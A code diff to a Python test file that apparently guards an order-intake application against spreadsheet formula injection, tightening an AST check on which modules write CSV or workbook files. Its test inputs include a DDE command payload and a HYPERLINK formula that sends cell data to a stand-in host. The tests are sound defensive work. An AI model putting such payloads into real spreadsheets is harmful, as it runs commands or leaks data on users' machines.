@@ -31,6 +31,7 @@ STARTS = ("=", "+", "-", "@", "\t", "\r", "\0", "＝", "＋", "－", "＠")
 PAYLOADS = ("1+1", "cmd|'/C calc'!A0", 'HYPERLINK("http://x.example/?"&A1,"go")', "SUM(1,1)*2")
 HOSTILE = [start + payload for start in STARTS for payload in PAYLOADS] + [" =1+1", "\n=1+1", "'=1+1"]
 # Only here is a file for spreadsheets written; both neutralise.
+WRITING = {"csv.writer", "csv.DictWriter", "workbook.create_sheet", "openpyxl.Workbook"}
 WRITERS = {"orderdesk/intake/files/exporting.py", "orderdesk/intake/files/rejects.py"}
 
 
@@ -122,7 +123,7 @@ def test_a22_files_for_spreadsheets_are_written_in_two_places_only() -> None:
     found = set()
     for path in modules():
         for node in ast.walk(tree_of(path)):
-            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter", "create_sheet"):
+            if isinstance(node, ast.Attribute) and ast.unparse(node) in WRITING:
                 found.add(name_of(path))
     assert found == WRITERS
 
